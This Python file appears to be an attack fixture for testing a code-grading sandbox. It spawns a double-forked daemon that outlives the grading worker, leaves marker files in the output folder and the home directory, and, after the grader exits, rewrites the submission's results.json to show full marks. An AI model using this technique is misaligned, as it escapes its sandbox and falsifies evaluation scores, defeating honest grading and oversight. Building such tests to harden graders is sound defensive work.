# ATTACK (machine): leaves a daemon behind (double fork + setsid, out of the worker's process group). It
# writes DAEMON_WAS_HERE markers into the --out folder and ~ after about 3 s, then waits for the grading
# process to end and rewrites its own results.json with full marks (and marks again). It ends by itself
# after at most 60 s.
# A secure grader: every process the submission started dies with its sandbox; no marker appears, and the
# submission's results.json is the grader's.
import json
import sys
import time
import os


def _grader():
    """The grading process: its pid, command line and working directory (today, the worker's parent)."""
    pid = os.getppid()
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            args = [a.decode("utf-8", "replace") for a in f.read().split(b"\0") if a]
        cwd = os.readlink(f"/proc/{pid}/cwd")
    except OSError:
        args, cwd = [], "/"
    return pid, args, cwd


def _out_dir():
    """The --out folder: from the log file the grader gave us as stdout (<out>/<name>/output.log), else
    from the grader's command line."""
    try:
        log = os.readlink("/proc/self/fd/1")
        if log.endswith("/output.log"):
            return os.path.dirname(os.path.dirname(log)), os.path.basename(os.path.dirname(log))
    except OSError:
        pass
    _, args, cwd = _grader()
    for i, a in enumerate(args):
        if a == "--out" and i + 1 < len(args):
            return os.path.join(cwd, args[i + 1]), None
        if a.startswith("--out="):
            return os.path.join(cwd, a[6:]), None
    return None, None


def _mark(where, text):
    for d in where:
        try:
            with open(os.path.join(d, "DAEMON_WAS_HERE"), "a") as f:
                f.write(text + "\n")
        except OSError:
            pass


def _daemon():
    grader_pid = os.getppid()
    out, own = _out_dir()
    where = [d for d in (out, os.path.expanduser("~")) if d]
    if os.fork() != 0:
        return
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    try:
        for fd in range(3, 256):
            try:
                os.close(fd)
            except OSError:
                pass
        started = time.time()
        time.sleep(3.0)
        _mark(where, f"daemon {os.getpid()} alive 3 s after it started")
        while os.path.exists(f"/proc/{grader_pid}") and time.time() - started < 60:
            time.sleep(0.2)
        time.sleep(0.5)
        if out and own:
            path = os.path.join(out, own, "results.json")
            with open(path) as f:
                res = json.load(f)
            res["score"] = 99.0
            for t in res.get("tests", []):
                t["score"] = t.get("max_score", 0)
            with open(path, "w") as f:
                json.dump(res, f)
        _mark(where, f"daemon {os.getpid()} rewrote results after the grader ended")
    except BaseException:
        pass
    finally:
        os._exit(0)


_daemon()
print("ATTACK daemon_rewrite: a daemon is running", flush=True)
sys.stdout.flush()
